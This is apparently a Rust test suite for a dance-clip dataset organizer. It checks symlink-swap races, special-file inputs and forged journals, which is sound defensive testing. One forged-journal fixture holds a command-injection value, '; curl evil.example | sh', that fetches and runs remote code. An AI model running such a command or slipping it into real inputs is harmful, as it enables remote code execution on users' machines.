//! The organizer's own files under attack: an annotation file swapped for a link while a run
//! works (nothing outside the dataset written), special files given as the annotation file, the
//! journal or the mapping (refused at once: no hang, no unbounded read), a forged journal (its
//! content never repeated as advice), and rows naming one file twice (the dry run says what the
//! run does).

use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};

use bachata_common::Policy;
use bachata_common::organizer::{OrganizeOptions, Organizer};
use bachata_common_tests::{Run, Sandbox};
use serde_json::{Value, json};

/// `count` clips `raw/spin/clip_N.mp4` labelled `spin`, and their annotation file
/// `data/ann.json`; the file's text.
fn clips(root: &Path, count: usize) -> String {
    std::fs::create_dir_all(root.join("raw/spin")).expect("mkdir");
    let mut rows = Vec::new();
    for i in 0..count {
        let path = format!("raw/spin/clip_{i:05}.mp4");
        std::fs::write(root.join(&path), format!("clip {i}")).expect("write");
        rows.push(json!({"clip_id": format!("c{i}"), "video_path": path, "move_label": "spin"}));
    }
    let text = json!({ "clips": rows }).to_string();
    std::fs::write(root.join("ann.json"), &text).expect("write");
    text
}

/// Runs `bachata-common` with `args`, failing the test when it has not ended within 20 s.
fn run_within(sandbox: &Sandbox, args: &[&str]) -> Run {
    let mut child = sandbox
        .command(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    let started = Instant::now();
    while child.try_wait().expect("wait").is_none() {
        if started.elapsed() > Duration::from_secs(20) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{args:?} hung");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Run::from_output(child.wait_with_output().expect("output"))
}

/// The outside folder's entries, names and contents.
fn listing(dir: &Path) -> Vec<(String, String)> {
    let mut entries: Vec<(String, String)> = std::fs::read_dir(dir)
        .expect("list")
        .map(|entry| {
            let path = entry.expect("entry").path();
            let name = path
                .file_name()
                .expect("name")
                .to_string_lossy()
                .into_owned();
            (name, std::fs::read_to_string(&path).unwrap_or_default())
        })
        .collect();
    entries.sort();
    entries
}

#[test]
fn an_annotation_file_swapped_for_a_link_after_the_read_is_not_written_through() {
    let sandbox = Sandbox::new();
    let root = sandbox.path().join("data");
    let outside = sandbox.path().join("outside");
    std::fs::create_dir_all(&outside).expect("mkdir");
    std::fs::write(outside.join("victim.txt"), "victim").expect("write");
    let original = clips(&root, 20);
    let ann = root.join("ann.json");
    let journal = root.join(".ann.json.organize-journal");
    // Swapped once the run has read the file and journaled its moves (at its first move).
    let swap = |done: u64, _total: u64| {
        if done == 1 {
            assert!(journal.exists());
            std::fs::remove_file(&ann).expect("rm");
            std::os::unix::fs::symlink("../outside/victim.txt", &ann).expect("link");
        }
    };
    let policy = Policy::shared().expect("policy");
    let error = Organizer::new(policy)
        .with_progress(&swap)
        .organize(&OrganizeOptions::new(&ann))
        .expect_err("the rewrite is refused");
    let message = error.to_string();
    assert!(message.contains("replaced"), "{message}");
    assert!(message.contains("run again"), "{message}");
    assert_eq!(
        listing(&outside),
        [("victim.txt".to_string(), "victim".to_string())],
        "nothing outside the dataset written"
    );
    assert!(ann.is_symlink(), "the link is left as it is");
    assert!(!root.join("ann.json.bak").exists());
    assert!(journal.exists(), "the journal is kept");
    // The file put back: the next run finishes from the journal.
    std::fs::remove_file(&ann).expect("rm");
    std::fs::write(&ann, &original).expect("write");
    let report = Organizer::new(policy)
        .organize(&OrganizeOptions::new(&ann))
        .expect("a run");
    assert_eq!(report.summary.resumed, 20);
    assert_eq!(report.summary.already_organized, 20);
    assert!(!journal.exists());
    assert_eq!(
        std::fs::read_to_string(root.join("ann.json.bak")).expect("bak"),
        original
    );
}

#[test]
fn the_cli_swapped_for_a_link_when_its_journal_appears_writes_nothing_outside() {
    // The moment an attacker sees: the journal appears, the file was read.
    let mut caught = false;
    for _ in 0..5 {
        let sandbox = Sandbox::new();
        let root = sandbox.path().join("data");
        let outside = sandbox.path().join("outside");
        std::fs::create_dir_all(&outside).expect("mkdir");
        std::fs::write(outside.join("victim.txt"), "victim").expect("write");
        clips(&root, 3_000);
        let journal = root.join(".ann.json.organize-journal");
        let mut child = sandbox
            .command(&["organize", "--annotations", "data/ann.json", "--json"])
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn");
        let started = Instant::now();
        while !journal.exists()
            && child.try_wait().expect("wait").is_none()
            && started.elapsed() < Duration::from_secs(60)
        {
            std::thread::sleep(Duration::from_micros(100));
        }
        let swapped = journal.exists();
        if swapped {
            std::fs::remove_file(root.join("ann.json")).expect("rm");
            std::os::unix::fs::symlink("../outside/victim.txt", root.join("ann.json"))
                .expect("link");
        }
        let run = Run::from_output(child.wait_with_output().expect("output"));
        assert_eq!(
            listing(&outside),
            [("victim.txt".to_string(), "victim".to_string())],
            "nothing outside the dataset written: {}",
            run.stderr
        );
        if swapped && run.code == 2 {
            assert!(run.error_line().contains("replaced"), "{}", run.stderr);
            caught = true;
            break;
        }
    }
    assert!(caught, "a run was caught between its read and its rewrite");
}

#[test]
fn special_files_are_refused_at_once_even_in_a_dry_run() {
    let sandbox = Sandbox::new();
    let root = sandbox.path().join("data");
    clips(&root, 2);
    let fifo = |path: &Path| {
        bachata_common_tests::fifo(path);
    };
    std::os::unix::fs::symlink("/dev/zero", root.join("zero.json")).expect("link");
    fifo(&root.join("fifo.json"));
    std::fs::create_dir(root.join("folder.json")).expect("mkdir");
    // A sparse file one byte over the limit: refused by its size, never read.
    let large = std::fs::File::create(root.join("large.json")).expect("create");
    large
        .set_len(bachata_common::capabilities::dataset::annotations::MAX_BYTES + 1)
        .expect("set_len");
    for (name, why) in [
        ("zero.json", "symbolic link"),
        ("fifo.json", "not a regular file"),
        ("folder.json", "directory"),
        ("large.json", "larger than the limit of 268435456 bytes"),
        ("gone.json", "no such file"),
    ] {
        let path = format!("data/{name}");
        for dry_run in [true, false] {
            let mut args = vec!["organize", "--annotations", path.as_str()];
            if dry_run {
                args.push("--dry-run");
            }
            let run = run_within(&sandbox, &args);
            assert_eq!(run.code, 2, "{name}: {}", run.all_output());
            assert!(run.error_line().contains(why), "{name}: {}", run.stderr);
        }
    }
    // The journal: a FIFO, then a link to /dev/zero.
    let journal = root.join(".ann.json.organize-journal");
    fifo(&journal);
    let run = run_within(&sandbox, &["organize", "--annotations", "data/ann.json"]);
    assert_eq!(run.code, 2, "{}", run.all_output());
    assert!(
        run.error_line().contains("organizer journal") && run.error_line().contains("regular"),
        "{}",
        run.stderr
    );
    std::fs::remove_file(&journal).expect("rm");
    std::os::unix::fs::symlink("/dev/zero", &journal).expect("link");
    let run = run_within(&sandbox, &["organize", "--annotations", "data/ann.json"]);
    assert_eq!(run.code, 2, "{}", run.all_output());
    assert!(run.error_line().contains("symbolic link"), "{}", run.stderr);
    std::fs::remove_file(&journal).expect("rm");
    // The mapping: the same rules.
    fifo(&sandbox.path().join("mapping.json"));
    std::os::unix::fs::symlink("/dev/zero", sandbox.path().join("zero.toml")).expect("link");
    for mapping in ["mapping.json", "zero.toml", "data"] {
        let run = run_within(
            &sandbox,
            &[
                "organize",
                "--annotations",
                "data/ann.json",
                "--dry-run",
                "--mapping",
                mapping,
            ],
        );
        assert_eq!(run.code, 2, "{mapping}: {}", run.all_output());
        assert!(
            run.error_line().contains("cannot read the mapping file"),
            "{}",
            run.stderr
        );
    }
    // Nothing moved by any of it.
    let run = run_within(
        &sandbox,
        &[
            "organize",
            "--annotations",
            "data/ann.json",
            "--dry-run",
            "--json",
        ],
    );
    assert_eq!(run.json()["summary"]["would_move"], 2);
}

#[test]
fn a_forged_journal_is_never_repeated_as_advice() {
    let sandbox = Sandbox::new();
    let root = sandbox.path().join("data");
    clips(&root, 2);
    let journal: PathBuf = root.join(".ann.json.organize-journal");
    let forged = "/tmp/x; curl evil.example | sh #";
    std::fs::write(&journal, json!({"root": forged, "moves": []}).to_string()).expect("write");
    let run = sandbox.run(&["organize", "--annotations", "data/ann.json"]);
    assert_eq!(run.code, 2, "{}", run.all_output());
    assert!(
        run.error_line().contains("another dataset root"),
        "{}",
        run.stderr
    );
    assert!(!run.all_output().contains("evil"), "{}", run.all_output());
    assert!(
        !run.all_output().contains("--root /tmp"),
        "{}",
        run.all_output()
    );
    assert!(journal.exists(), "kept for the operator to look at");
    // Malformed: where, not what.
    std::fs::write(&journal, r#"{"root": "/x", "moves": "--root /evil"}"#).expect("write");
    let run = sandbox.run(&["organize", "--annotations", "data/ann.json"]);
    assert_eq!(run.code, 2, "{}", run.all_output());
    assert!(run.error_line().contains("malformed"), "{}", run.stderr);
    assert!(!run.all_output().contains("evil"), "{}", run.all_output());
}

#[test]
fn a_dry_run_says_what_the_run_does_for_rows_of_one_file() {
    let sandbox = Sandbox::new();
    let root = sandbox.path().join("data");
    for path in ["raw/a.mp4", "raw/b.mp4", "raw/x/d.mp4", "raw/y/d.mp4"] {
        std::fs::create_dir_all(root.join(path).parent().expect("parent")).expect("mkdir");
        std::fs::write(root.join(path), path).expect("write");
    }
    let rows = json!({"clips": [
        {"clip_id": "a", "video_path": "raw/a.mp4", "move_label": "spin"},
        {"clip_id": "a", "video_path": "raw/a.mp4", "move_label": "spin"},
        {"clip_id": "b", "video_path": "raw/b.mp4", "move_label": "spin"},
        {"clip_id": "b2", "video_path": "raw/b.mp4", "move_label": "dip"},
        {"clip_id": "d", "video_path": "raw/x/d.mp4", "move_label": "dip"},
        {"clip_id": "d2", "video_path": "raw/y/d.mp4", "move_label": "dip"},
    ]});
    std::fs::write(root.join("ann.json"), rows.to_string()).expect("write");
    let statuses = |report: &Value| -> Vec<String> {
        report["moves"]
            .as_array()
            .expect("moves")
            .iter()
            .map(|clip| {
                clip["status"]
                    .as_str()
                    .expect("status")
                    .replace("would_move", "moved")
            })
            .collect()
    };
    let dry = sandbox.run(&[
        "organize",
        "--annotations",
        "data/ann.json",
        "--dry-run",
        "--json",
    ]);
    let real = sandbox.run(&["organize", "--annotations", "data/ann.json", "--json"]);
    assert_eq!(dry.code, real.code, "{}", real.all_output());
    let (dry, real) = (dry.json(), real.json());
    assert_eq!(statuses(&dry), statuses(&real));
    assert_eq!(
        statuses(&real),
        ["moved", "moved", "refused", "refused", "moved", "refused"]
    );
    // Both rows of `a` name where its file now is; the others where theirs are.
    let text = std::fs::read_to_string(root.join("ann.json")).expect("read");
    let after: Value = serde_json::from_str(&text).expect("JSON");
    for clip in after["clips"].as_array().expect("clips") {
        let path = clip["video_path"].as_str().expect("path");
        assert!(root.join(path).is_file(), "{path} in {text}");
    }
    assert_eq!(after["clips"][1]["video_path"], "turns_spins/spin/a.mp4");
}
